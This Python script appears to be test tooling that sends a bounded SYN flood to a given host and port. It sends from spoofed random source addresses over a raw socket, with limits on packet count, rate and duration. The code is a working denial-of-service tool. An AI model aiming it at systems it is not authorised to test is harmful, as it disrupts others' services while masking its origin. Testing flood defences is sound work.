#!/usr/bin/env python3
"""Bounded SYN flood for the SYN-flood tests: --count TCP SYNs to HOST:PORT
from random source addresses of --src-net (a /16, off-link: answers go to
the director's gateway and die there) and random ports, through a raw
socket (IP_HDRINCL), at most --rate per second and for at most --seconds.
Prints the number sent."""
import argparse
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--src-net", default="198.19.0.0")
    ap.add_argument("--rate", type=int, default=20000)
    ap.add_argument("--seconds", type=float, default=30.0)
    a = ap.parse_args()
    base = struct.unpack("!I", socket.inet_aton(a.src_net))[0] & 0xFFFF0000
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    rnd = random.Random(12345)
    start = time.monotonic()
    sent = 0
    while sent < a.count:
        now = time.monotonic() - start
        if now > a.seconds:
            break
        if sent > now * a.rate:
            time.sleep(0.001)
            continue
        src = socket.inet_ntoa(struct.pack("!I", base | rnd.randrange(1, 0xFFFF)))
        pkt = syn(src, a.host, rnd.randrange(1024, 65535), a.port, rnd.getrandbits(32))
        try:
            s.sendto(pkt, (a.host, 0))
        except OSError:
            # a full transmit queue: try again shortly (bounded by --seconds)
            time.sleep(0.001)
            continue
        sent += 1
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
